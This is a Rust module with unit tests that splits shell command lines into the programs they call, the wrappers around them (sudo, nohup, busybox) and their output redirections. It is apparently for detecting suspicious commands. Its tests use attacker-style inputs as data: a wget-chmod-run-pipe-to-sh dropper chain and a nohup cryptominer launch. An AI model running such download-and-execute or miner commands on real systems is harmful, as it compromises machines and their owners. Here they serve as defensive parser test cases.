//! A command line taken apart, roughly: enough to know which programs it calls and with which words.
//!
//! This is no shell. Quotes count as blanks, so that `sh -c "cd /tmp; wget x"` yields the `wget` too;
//! whoever reads a pattern for `grep` as a command gets an odd command, which no rule knows. What
//! stands in front of a program to run it differently (`sudo`, `nohup`, `busybox`, `if`) is reported
//! along with it.

/// Bytes of a command line that are looked at: the longest are binaries, written with `echo -e`.
pub const BYTES_MAX: usize = 64 << 10;

/// Words that are followed by the program that is meant.
const WRAPPERS: &[&str] = &[
    "!", "busybox", "command", "do", "elif", "else", "env", "exec", "if", "ionice", "nice",
    "nohup", "setsid", "sudo", "then", "time", "timeout", "until", "while", "xargs", "{",
];

/// A program and its words.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Call<'a> {
    /// All words, the wrappers and the program among them.
    pub words: Vec<&'a str>,
    /// How many words at the beginning name programs: the wrappers and what they wrap.
    pub programs: usize,
    /// What its output goes to: the words behind each `>`.
    pub outputs: Vec<&'a str>,
}

impl<'a> Call<'a> {
    /// The programs without their folders, the wrapped one last.
    pub fn names(&self) -> impl DoubleEndedIterator<Item = &'a str> {
        self.words.iter().take(self.programs).map(|word| base(word))
    }

    /// The wrapped program as it was written.
    pub fn program(&self) -> Option<&'a str> {
        self.words.get(self.programs.checked_sub(1)?).copied()
    }

    /// The words behind the program.
    pub fn arguments(&self) -> impl Iterator<Item = &'a str> {
        self.words.iter().skip(self.programs).copied()
    }
}

fn base(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// The beginning of `text`, at most so many bytes, cut between characters.
pub fn prefix(text: &str, bytes_max: usize) -> &str {
    text.get(..text.floor_char_boundary(bytes_max)).unwrap_or(text)
}

/// The programs that a command line calls, in its order.
pub fn calls(line: &str) -> Vec<Call<'_>> {
    let is_end = |c: char| matches!(c, ';' | '&' | '|' | '\n' | '\r' | '(' | ')' | '`');
    let is_blank = |c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<');
    let calls = prefix(line, BYTES_MAX).split(is_end).filter_map(|text| {
        let (mut words, mut outputs) = (Vec::new(), Vec::new());
        for (at, part) in text.split('>').enumerate() {
            let found = part.split(is_blank).filter(|word| !word.is_empty() && *word != "$");
            let before = words.len();
            words.extend(found);
            outputs.extend(words.get(before).filter(|_| at > 0).copied());
        }
        // `A=b program`: the assignment is no program.
        let assignments = words.iter().take_while(|word| is_assignment(word)).count();
        let words = words.get(assignments..).filter(|words| !words.is_empty())?.to_vec();
        let mut programs = 0;
        let mut wrapped = true;
        for word in &words {
            // `-n`, `A=b` and numbers are the wrapper's own words, as in `env A=b` and `timeout 5`.
            let is_own = word.starts_with('-')
                || is_assignment(word)
                || word.bytes().all(|b| b.is_ascii_digit());
            if !wrapped || (programs > 0 && is_own) {
                break;
            }
            programs += 1;
            wrapped = WRAPPERS.contains(&base(word));
        }
        Some(Call { words, programs, outputs })
    });
    calls.collect()
}

fn is_assignment(word: &str) -> bool {
    let Some((name, _)) = word.split_once('=') else { return false };
    !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn programs(line: &str) -> Vec<Vec<&str>> {
        calls(line).iter().map(|call| call.names().collect()).collect()
    }

    #[test]
    fn every_program_of_a_line_is_found() {
        assert_eq!(
            programs("cd /tmp || cd /run; wget http://x/a && chmod 777 a; ./a | sh"),
            [["cd"], ["cd"], ["wget"], ["chmod"], ["a"], ["sh"]]
        );
        assert_eq!(programs("sh -c \"cd /tmp; curl -O x\""), [["sh"], ["curl"]]);
        assert_eq!(programs("echo $(uname -m)`id`"), [["echo"], ["uname"], ["id"]]);
        assert_eq!(programs("  ;; \n"), Vec::<Vec<&str>>::new());
    }

    #[test]
    fn what_wraps_a_program_is_reported_with_it() {
        assert_eq!(programs("sudo /bin/busybox wget x"), [["sudo", "busybox", "wget"]]);
        assert_eq!(programs("LC_ALL=C nohup ./miner -o x"), [["nohup", "miner"]]);
        assert_eq!(programs("if [ -f x"), [["if", "["]]);
        let calls = calls("nohup /tmp/x 1 2");
        assert_eq!(calls[0].program(), Some("/tmp/x"));
        assert_eq!(calls[0].arguments().collect::<Vec<_>>(), ["1", "2"]);
    }

    #[test]
    fn redirections_are_no_part_of_a_word() {
        let calls = calls("cat /proc/cpuinfo>/tmp/x 2>/dev/null");
        assert_eq!(calls[0].words, ["cat", "/proc/cpuinfo", "/tmp/x", "2", "/dev/null"]);
        assert_eq!(calls[0].outputs, ["/tmp/x", "/dev/null"]);
        let outputs: Vec<_> = super::calls(">a; b >> \"c d\" 2>&1 > ; cat <e")
            .into_iter()
            .map(|call| call.outputs)
            .collect();
        assert_eq!(outputs, [&["a"][..], &["c"], &[], &[]]);
    }

    #[test]
    fn a_cut_is_between_characters() {
        assert_eq!(prefix("aé", 2), "a");
        assert_eq!(prefix("aé", 9), "aé");
    }
}
